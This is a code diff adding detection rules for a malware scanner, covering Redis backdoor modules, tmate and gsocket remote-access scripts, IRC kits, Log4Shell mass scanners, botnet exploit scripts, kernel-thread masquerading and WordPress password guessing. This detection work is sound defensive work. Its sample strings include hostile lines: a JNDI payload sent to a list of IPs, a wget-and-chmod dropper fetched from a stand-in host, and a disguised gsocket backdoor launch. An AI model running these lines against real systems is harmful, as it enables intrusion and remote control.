@@ -1,0 +1,193 @@
+import type { ContentRule } from './rule.ts'
+
+/** What is used against many machines at once, and to stay on one unseen. */
+export const OLD_KITS: readonly ContentRule[] = [
+  {
+    number: 51,
+    name: 'Linux.Backdoor.RedisModule',
+    title: ['Module of Redis that runs commands', '可执行命令的 Redis 模块'],
+    kind: 'backdoor',
+    in: ['program'],
+    when: {
+      all: [
+        'RedisModule_',
+        {
+          any: [
+            'system.exec',
+            'system.rev',
+            'headcrab',
+            { all: [{ any: ['memfd_create', '/proc/self/fd', '/bin/sh'] }, 'slaveof no one'] },
+          ],
+        },
+      ],
+    },
+    references: [
+      'https://www.aquasec.com/blog/headcrab-attacks-servers-worldwide-with-novel-state-of-art-redis-malware/',
+    ],
+    match: ['RedisModule_OnLoad', 'RedisModule_CreateCommand', 'system.exec', 'system.rev'],
+    harmless: ['RedisModule_OnLoad', 'RedisModule_CreateCommand', 'json.set', 'slaveof'],
+  },
+  {
+    number: 70,
+    name: 'Script.Backdoor.RemoteAccess',
+    title: ['Script that lets somebody in by a public relay', '通过公共中继提供远程访问的脚本'],
+    kind: 'backdoor',
+    in: ['script'],
+    severity: 'high',
+    when: {
+      any: [
+        { pattern: /\btmate\b[^\n]{0,160}\s-(?:k\s{0,2}tmk-|n\s)[^\n]{0,160}/, near: ['tmate -', 'tmate new'] },
+        {
+          pattern: /GSOCKET_ARGS=["']?-|gs-netcat\s[^\n]{0,80}-\w{0,8}l|\bgsocket\.io\/[xy]\b/,
+          near: ['gsocket', 'gs-netcat'],
+        },
+      ],
+    },
+    attack: ['T1219', 'T1090'],
+    references: ['https://attack.mitre.org/techniques/T1219/', 'https://github.com/hackerschoice/gsocket'],
+    match: ['#!/bin/sh', 'GSOCKET_ARGS="-s KEY -liqD" exec -a "[kcached]" ./gs-bd'],
+    harmless: ['#!/bin/sh', 'tmate -S /tmp/tmate.sock new-session -d'],
+  },
+  {
+    number: 148,
+    name: 'Tool.IrcKit',
+    title: [
+      'Faker of process names, bouncer or bot for IRC, as old kits bring them',
+      '老式套件中的进程伪装、IRC 代理或机器人',
+    ],
+    kind: 'tool',
+    in: ['program', 'script'],
+    when: {
+      any: [
+        { all: ['XHide', 'Process Faker'] },
+        { all: ['psyBNC', 'the most psychoid'] },
+        { all: ['energymech', { any: ['PRIVMSG', 'MECHVERSION'] }] },
+        { all: ['eggdrop', 'fakename'] },
+      ],
+    },
+    attack: ['T1036.004', 'T1588.002'],
+    references: ['https://attack.mitre.org/techniques/T1036/004/', 'https://attack.mitre.org/techniques/T1588/002/'],
+    match: ['XHide - Process Faker', 'Fakename: %s PidNum: %d'],
+    harmless: ['eggdrop', 'Process name'],
+  },
+  {
+    number: 149,
+    name: 'Script.Scanner.Log4Shell',
+    title: ['Script that tries Log4Shell on many servers', '对多台服务器尝试 Log4Shell 的脚本'],
+    kind: 'tool',
+    in: ['script'],
+    when: {
+      all: [
+        { any: ['${${lower:', '${${::-', '${${upper:', '${${env:'] },
+        { any: ['ldap:', 'dap:', 'rmi:', 'dns:'] },
+        { any: ['requests.', 'curl ', 'wget ', 'urllib', 'fetch(', 'http.client', 'httpx'] },
+        { any: ['User-Agent', 'X-Api-Version', 'X-Forwarded-For', 'Referer'] },
+      ],
+    },
+    attack: ['T1190', 'T1595.002'],
+    references: ['https://attack.mitre.org/techniques/T1190/', 'https://logging.apache.org/security.html'],
+    match: [
+      '#!/usr/bin/python3',
+      'p = "${${lower:j}ndi:ldap://198.51.100.2/a}"',
+      'for t in open("ips.txt"): requests.get(t, headers={"User-Agent": p})',
+    ],
+    harmless: ['#!/usr/bin/python3', 'p = "${jndi:ldap://localhost/a}"', 'requests.get(url)'],
+  },
+  {
+    number: 151,
+    name: 'Script.Exploit.Many',
+    title: ['Script or program that tries holes of many servers', '对多台服务器尝试多种漏洞的脚本或程序'],
+    kind: 'exploit',
+    in: ['script', 'program'],
+    confidence: 'medium',
+    when: {
+      all: [
+        {
+          atLeast: 2,
+          of: [
+            'org.apache.commons.io.IOUtils',
+            'forName(\\"java.lang.Runtime',
+            'getRuntime().exec',
+            'getRuntime%28%29.exec',
+            '@ognl.OgnlContext',
+            'java.lang.ProcessBuilder',
+            '/cgi-bin/.%2e',
+            'eval-stdin.php',
+            'class.module.classLoader',
+            'function=call_user_func_array',
+            '/solr/admin/cores',
+            '/wls-wsat/',
+            '/ws/v1/cluster/apps/new-application',
+            '/actuator/gateway/routes',
+            '/HNAP1/',
+            '/GponForm/diag_Form',
+            'setup.cgi?next_file=',
+            '/ctrlt/DeviceUpgrade_1',
+            '/tmUnblock.cgi',
+            '/manager/text/deploy',
+            '/boaform/admin/formLogin',
+            '/cgi-bin/luci/;stok=',
+            '/picsdesc.xml',
+            '/_search?pretty',
+            '"script_fields"',
+            '%24%7B%28%23a',
+          ],
+        },
+        { any: ['wget ', 'curl ', 'tftp ', 'wget+', 'curl+', 'wget%20', 'curl%20'] },
+        { any: ['/tmp', 'chmod', '|sh', '| sh', '|bash', '| bash', '.exec', '%28'] },
+      ],
+    },
+    attack: ['T1190', 'T1595.002'],
+    references: ['https://attack.mitre.org/techniques/T1190/', 'https://attack.mitre.org/techniques/T1595/002/'],
+    match: [
+      'POST /GponForm/diag_Form?images/ HTTP/1.1',
+      'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1',
+      'cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh',
+    ],
+    harmless: ['GET /HNAP1/ HTTP/1.1', 'wget https://example.org/a', 'chmod +x a'],
+  },
+  {
+    number: 71,
+    name: 'Program.Masquerade.Thread',
+    title: [
+      'Program that calls itself as a thread of the kernel and runs from memory',
+      '冒充内核线程并在内存中运行的程序',
+    ],
+    kind: 'backdoor',
+    in: ['program'],
+    severity: 'high',
+    confidence: 'medium',
+    when: {
+      all: [
+        { any: ['[kworker/', '[kthreadd]', '[kswapd0]', '[migration/', '[rcu_sched]', '[watchdog/', '[ksoftirqd/'] },
+        { any: ['memfd_create', '/proc/self/fd/', '/proc/%d/fd/', 'fexecve'] },
+      ],
+    },
+    attack: ['T1036.004', 'T1620'],
+    references: ['https://attack.mitre.org/techniques/T1036/004/', 'https://attack.mitre.org/techniques/T1620/'],
+    match: ['[kworker/0:2]', 'memfd_create', '/proc/self/fd/%d'],
+    harmless: ['kworker', 'memfd_create'],
+  },
+  {
+    number: 150,
+    name: 'Script.Brute.WordPress',
+    title: ['Script that guesses passwords of many WordPress sites', '批量猜测 WordPress 口令的脚本'],
+    kind: 'tool',
+    in: ['script', 'program'],
+    when: {
+      all: [
+        'wp.getUsersBlogs',
+        { any: ['requests.', 'urllib', 'curl_', 'LWP', 'HTTP::', 'net/http', 'fsockopen'] },
+        { any: ['threading', 'Pool(', 'pass.txt', 'passwords.txt', 'wordlist', 'hacked', 'cracked', 'brute'] },
+      ],
+    },
+    attack: ['T1110.001'],
+    references: ['https://attack.mitre.org/techniques/T1110/001/'],
+    match: [
+      '#!/usr/bin/python3',
+      'body = "<methodCall><methodName>wp.getUsersBlogs</methodName>"',
+      'for p in open("passwords.txt"): requests.post(site + "/xmlrpc.php", data=body)',
+    ],
+    harmless: ['#!/usr/bin/python3', 'requests.post(site, data="<methodName>wp.getUsersBlogs</methodName>")'],
+  },
+]
